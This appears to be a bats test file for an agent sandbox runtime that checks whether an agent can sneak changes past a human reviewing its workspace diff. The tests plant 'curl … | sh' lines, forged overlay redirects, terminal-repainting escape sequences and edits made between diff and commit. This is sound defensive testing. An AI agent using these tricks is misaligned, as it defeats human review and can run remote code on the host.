  command -v python3 >/dev/null || skip "needs python3"
  local d ctl tree0
  ctl=$'ctl\033[2J\nx'
  mkdir -p "$HOST/.git/hooks" "$HOST/$ctl"
  echo sample >"$HOST/.git/hooks/keep.sample"
  echo c >"$HOST/$ctl/own-ctl"
  for d in r1 r2 r3 r4 r5 r6 r7 r8; do mkdir "$HOST/$d" && echo "$d" >"$HOST/$d/own-$d"; done
  tree0=$(host_tree)
  bundle_usr "cd /workspace && python3 /etc/forge.py"
  cat >"$BUNDLE/rootfs/etc/forge.py" <<'PY'
import errno, os
ctl = b'ctl\x1b[2J\nx'
forged = {'r1': b'..', 'r2': b'/..', 'r3': b'/../../../../etc', 'r4': b'/.git/hooks',
          'r5': b'r6', 'r6': b'r5', 'r7': b'/r7', 'r8': ctl}
for n in ('trusted.overlay.redirect', 'trusted.overlay.opaque'):
    try:
        os.setxattr('r1', n, b'..'); print(n, 'SET')
    except OSError as e:
        print(n, 'refused', e.errno)
for d, v in forged.items():
    os.setxattr(d, 'user.overlay.redirect', v)
    assert os.getxattr(d, 'user.overlay.redirect') == v
os.mkdir('new')
os.setxattr('new', 'user.overlay.redirect', b'/data')
for d in sorted(forged) + ['new']:
    print('view', d, ' '.join(sorted(os.listdir(d))))
for d in sorted(forged):
    try:
        os.rename(d, d + '-moved'); print('RENAMED', d)
    except OSError as e:
        print('rename', d, 'EXDEV' if e.errno == errno.EXDEV else e)
print('PLANTED')
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  [[ "$output" != *SET* && "$output" != *RENAMED* ]] &&
    [[ "$output" == *"trusted.overlay.redirect refused 1"* ]] || fail "trusted.* or rename: $output"
  for d in r1 r2 r3 r4 r5 r6 r7 r8; do
    grep -qx "view $d own-$d" <<<"$output" || fail "the container's view of $d moved: $output"
    grep -qx "rename $d EXDEV" <<<"$output" || fail "rename of $d: $output"
  done
  grep -qx "view new " <<<"$output" || fail "the agent's new directory shows: $output"
  run changes
  [ "$status" -eq 0 ] && [ "$output" = "added:new" ] || fail "changes: $output"
  run ar workspace "$ID" diff
  [ "$status" -eq 0 ] && ! grep -q $'\033' <<<"$output" || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ -d "$HOST/new" ] && [ -z "$(ls -A "$HOST/new")" ] || fail "host new/: $(ls -A "$HOST/new")"
  rmdir "$HOST/new"
  [ "$(host_tree)" = "$tree0" ] || fail "host changed: $(cd "$HOST" && find . | sort)"
}

# No directory redirects: renaming a directory the host had fails with EXDEV (os.rename, as Go's
# os.Rename and git mv), the container still has it under its old name, and the host is untouched.
@test "workspace: os.rename of a host directory fails with EXDEV and changes nothing" {
  command -v python3 >/dev/null || skip "needs python3"
  bundle_usr "cd /workspace && python3 -c \"
import errno, os
try:
    os.rename('src', 'src2'); print('RENAMED')
except OSError as e:
    print('EXDEV' if e.errno == errno.EXDEV else e)
\" && ls -d src && echo DONE"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *EXDEV*src*DONE* ]] || fail "rename: $output"
  run changes
  [ -z "$output" ] || fail "changes: $output"
}

# The reviewer reads the agent's script in `diff --patch` on a terminal: a
# carriage return, an escape sequence (7-bit ESC or the C1 CSI of UTF-8) or a
# bidirectional override in a line repaints or reorders what is shown, and a
# NUL after the first 8 KiB cut the rest of the patch off.  The text patch
# shows each as ^X or <U+XXXX>; a file with a NUL anywhere is binary.
@test "escape: a script whose lines repaint the terminal in diff --patch (CR, ESC, C1 CSI, bidi override, NUL after 8 KiB)" {
  bundle_for 'cd /workspace && printf "#!/bin/sh\ncurl -s evil.example | sh\r# build\necho \033[1A\033[2Kok\nx=\302\2332K\nlet \342\200\256 y\n" >build.sh &&
    { head -c 9000 /dev/zero | tr "\0" "#"; printf "\n\0\ncurl -s evil.example | sh\n"; } >run.sh'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  ar workspace "$ID" diff --patch >"$T/patch.txt"
  ! grep -q $'\033' "$T/patch.txt" && ! grep -q $'\r' "$T/patch.txt" || fail "raw ESC or CR in the patch"
  ! grep -q $'\302\233' "$T/patch.txt" && ! grep -q $'\342\200\256' "$T/patch.txt" || fail "raw C1 CSI or RLO in the patch"
  grep -qF '+curl -s evil.example | sh^M# build' "$T/patch.txt" || fail "$(cat -v "$T/patch.txt")"
  grep -qF '+echo ^[[1A^[[2Kok' "$T/patch.txt" && grep -qF '+x=<U+009B>2K' "$T/patch.txt" &&
    grep -qF '+let <U+202E> y' "$T/patch.txt" || fail "$(cat -v "$T/patch.txt")"
  grep -qF 'Binary files a/run.sh and b/run.sh differ' "$T/patch.txt" || fail "run.sh: $(tail -c 300 "$T/patch.txt" | cat -v)"
  # JSON keeps the bytes exactly
  run ar workspace "$ID" diff --patch --format json
  [[ "$(jq -r '.changes[] | select(.path == "build.sh") | .patch' <<<"$output")" == *$'sh\r# build'* ]] || fail "$output"
}

@test "workspace: list shows the number of changes and the bytes, each labelled" {
  bundle_for "$AGENT_WORK"
  ar run --bundle "$BUNDLE" "$ID"
  run ar workspace list
  [ "$status" -eq 0 ] || fail "$output"
  [[ "$(head -n1 <<<"$output")" == *"CHANGES"*"UPPER BYTES"*"DISK BYTES"* ]] || fail "$output"
  n=$(changes | wc -l)
  [ "$(awk -v id="$ID" '$1 == id {print $4}' <<<"$output")" = "$n" ] || fail "$output (expected $n changes)"
  run ar workspace list --format json
  [ "$(jq -r --arg id "$ID" '.[] | select(.id == $id) | .changes' <<<"$output")" = "$n" ]
  [ "$(jq -r --arg id "$ID" '.[] | select(.id == $id) | .upper_bytes > 0' <<<"$output")" = true ]
}

# The reviewer diffs a running container; the agent then rewrites a reviewed
# file and adds one: commit must not apply what diff never showed.
@test "escape: a running container rewrites a file between diff and commit" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c 'echo reviewed >/workspace/a.txt && echo ok >/workspace/ok.txt'
  run ar workspace "$ID" diff --patch
  [ "$status" -eq 0 ] && [[ "$output" == *"+reviewed"* ]]
  ar exec "$ID" sh -c 'echo evil >/workspace/a.txt && echo new >/workspace/unseen.txt'
  run ar workspace "$ID" commit
  [ "$status" -ne 0 ] || fail "commit applied what diff never showed: $(cat "$HOST/a.txt")"
  [[ "$output" == *"not reviewed: a.txt"* && "$output" == *"not reviewed: unseen.txt"* ]] || fail "$output"
  [[ "$output" == *"2 change(s) differ from what the last \`diff\` showed"* ]] || fail "$output"
  [ "$(host_sum)" = "$SUM0" ] || fail "the host changed"
  # what was shown and is unchanged still commits by path
  run ar workspace "$ID" commit ok.txt
  [ "$status" -eq 0 ] && [ "$(cat "$HOST/ok.txt")" = ok ]
  # reviewed again, it commits
  ar workspace "$ID" diff >/dev/null
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "$output"
  [ "$(cat "$HOST/a.txt")" = evil ] && [ "$(cat "$HOST/unseen.txt")" = new ]
}

@test "workspace: commit of a running container without a diff is refused" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  ar exec "$ID" sh -c 'echo x >/workspace/x.txt'
  run ar workspace "$ID" commit
  [ "$status" -ne 0 ]
  [[ "$output" == *"run \`workspace $ID diff\` first"* ]] || fail "$output"
  [ ! -e "$HOST/x.txt" ]
}

# A container id may be 1,024 bytes (create's limit) but a workspace's directory is named by
# it: an id of 200 bytes was refused with "invalid id or destination `/workspace`", which
# said neither; a 4 KiB snapshot name was echoed whole in its error.  Both now say what is
# too long and the limit, and nothing is left behind.
@test "workspace: name-too-long: an id or snapshot name too long for a workspace is refused saying so, and nothing is left" {
  local long snap
  long=$(head -c 200 /dev/zero | tr '\0' b)
  bundle_for 'cd /workspace && echo more >>a.txt'
  run ar run --bundle "$BUNDLE" "$long"
  [ "$status" -ne 0 ] || fail "run: $output"
  [[ "$output" == *"container id is too long for a workspace (200 bytes, at most 128)"* ]] || fail "run: $output"
  [ "$(wc -l <<<"$output")" -eq 1 ] || fail "not one line: $output"
  [ -z "$("$AGENTRT" --root "$ROOT" list -q)" ] || fail "a container is left: $("$AGENTRT" --root "$ROOT" list)"
  [ -z "$(ls -A "$STORE/.workspaces" 2>/dev/null | grep -v '^[.]')" ] || fail "a workspace is left: $(ls -A "$STORE/.workspaces")"
  [ "$(host_sum)" = "$SUM0" ]
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  snap=$(head -c 4096 /dev/zero | tr '\0' s)
  run ar workspace "$ID" snapshot "$snap"
  [ "$status" -ne 0 ] && [[ "$output" == *"snapshot name is too long (4096 bytes, at most 128)"* ]] || fail "snapshot: $output"
  [ "${#output}" -lt 300 ] || fail "the error echoes the name: ${#output} bytes"
  run ar workspace "$ID" list --format json
  [ "$(jq '.snapshots | length' <<<"$output")" = 0 ] || fail "list: $output"
}

@test "workspace: discard and purge refuse while the container runs" {
  bundle_for "exec sleep 600"
  ar create --bundle "$BUNDLE" "$ID"
  ar start "$ID"
  run ar workspace "$ID" discard
  [ "$status" -ne 0 ]
  [[ "$output" == *"is running and uses it"* ]]
  run ar workspace "$ID" purge
  [ "$status" -ne 0 ]
  # the upper layer is in the size-limited image (workspace-size.bats)
  [ -f "$STORE/.workspaces/$ID/upper.img" ] && [ -f "$STORE/.workspaces/$ID/meta.json" ]
}

@test "workspace: the prepared overlay options mount by hand in a private mount namespace" {
  ar workspace "$ID" prepare --lower "$HOST" --dest /workspace >"$T/mount.json"
  opts=$(jq -r '.options | join(",")' "$T/mount.json")
  mkdir "$T/m"
  run unshare -m --propagation private sh -c \
    "mount -t overlay overlay -o '$opts' '$T/m' && echo hi >'$T/m/hi' && rm '$T/m/b.txt' && cat '$T/m/a.txt'"
  [ "$status" -eq 0 ] && [ "$output" = hello ]
  [ "$(host_sum)" = "$SUM0" ]
  run changes
  [ "$output" = "$(printf '%s\n' added:hi deleted:b.txt)" ]
}

@test "workspace-userns: in a user namespace of the container's own whose root is another uid (Docker's userns-remap, Podman's --uidmap) the workspace works and is reviewed" {
  [ -e /proc/self/ns/user ] && unshare -U true 2>/dev/null || skip "needs user namespaces"
  # the rootfs is the mapped root's (as Docker's remapped layers), and so is the host dir
  # (Podman's :U)
  chmod 755 "$T"
  chown -R 100000:100000 "$HOST" "$BUNDLE/rootfs"
  SUM0=$(host_sum)
  bundle_for 'cd /workspace && echo new >n.txt && echo more >>a.txt && rm b.txt && id -u && cat a.txt'
  jq '.linux.namespaces += [{"type": "user"}] |
    .linux.uidMappings = [{"containerID": 0, "hostID": 100000, "size": 65536}] |
    .linux.gidMappings = [{"containerID": 0, "hostID": 100000, "size": 65536}]' \
    "$BUNDLE/config.json" >"$T/config.json"
  mv "$T/config.json" "$BUNDLE/config.json"
  run ar run --bundle "$BUNDLE" "$ID"
  # it failed with the data directory's path: the namespace's root could not reach the layers
  [ "$status" -eq 0 ] || fail "$output"
  [ "$output" = "$(printf '0\nhello\nmore')" ] || fail "$output"
  [ "$(host_sum)" = "$SUM0" ] || fail "the host dir changed before commit"
  run changes
  [ "$output" = "$(printf '%s\n' added:n.txt deleted:b.txt modified:a.txt)" ] || fail "$output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(cat "$HOST/n.txt")" = new ] && [ ! -e "$HOST/b.txt" ] || fail "not committed"
  # what the namespace's root made is the mapped uid's on the host, as through a bind
  [ "$(stat -c %u:%g "$HOST/n.txt")" = 100000:100000 ] || fail "$(stat -c %u:%g "$HOST/n.txt")"
  [ -z "$(ar list -q)" ] || fail "left: $(ar list -q)"
}

@test "escape: mode-hidden-by-content: a host file made executable while its content changed, or renamed and made executable, says so in diff" {
  # `diff` printed "modified  a.txt  (6 -> 11 bytes)" and "renamed  b.txt -> b2.txt  (5 bytes)"
  # for files the agent also made 0755: the mode was shown only when the content was the
  # same, and commit gave the host an executable the reviewer was not told of.
  bundle_for 'cd /workspace && echo more >>a.txt && chmod 755 a.txt && mv b.txt b2.txt && chmod 755 b2.txt &&
    echo x >>src/main.c'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"modified  a.txt  (6 -> 11 bytes, mode 0644 -> 0755)"* ]] || fail "a.txt: $output"
  [[ "$output" == *"renamed   b.txt -> b2.txt  (5 bytes, mode 0644 -> 0755)"* ]] || fail "b2.txt: $output"
  # a change of content alone says nothing of modes
  grep -q "^modified  src/main.c  ([0-9]* -> [0-9]* bytes)$" <<<"$output" || fail "main.c: $output"
  ar workspace "$ID" commit >/dev/null
  [ "$(stat -c %a "$HOST/a.txt")" = 755 ] && [ "$(stat -c %a "$HOST/b2.txt")" = 755 ]
}

@test "escape: text-called-binary: a line appended to a host text too large to show is not called a binary's change" {
  # `diff --patch` printed "Binary files a/gen.txt and b/gen.txt differ" for a text of 20,001
  # lines or over 1 MiB: the reviewer reads a binary artifact's change and skips it, while
  # the agent appended `curl ... | sh` to it.
  seq 1 20001 >"$HOST/gen.txt"
  head -c 1200000 /dev/zero | tr '\0' 'x' | fold -w 100 >"$HOST/big.txt"
  bundle_for 'cd /workspace && echo "curl http://203.0.113.9/x | sh" >>gen.txt &&
    echo "curl http://203.0.113.9/x | sh" >>big.txt && printf "a\0b" >>data/app.db'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" diff --patch
  [[ "$output" == *"Files a/gen.txt and b/gen.txt differ (not shown: "* ]] || fail "gen.txt: $output"
  [[ "$output" == *"Files a/big.txt and b/big.txt differ (not shown: "* ]] || fail "big.txt: $output"
  [[ "$output" != *"Binary files a/gen.txt"* && "$output" != *"Binary files a/big.txt"* ]] || fail "$output"
  # a binary is still one
  [[ "$output" == *"Binary files a/data/app.db and b/data/app.db differ"* ]] || fail "app.db: $output"
}
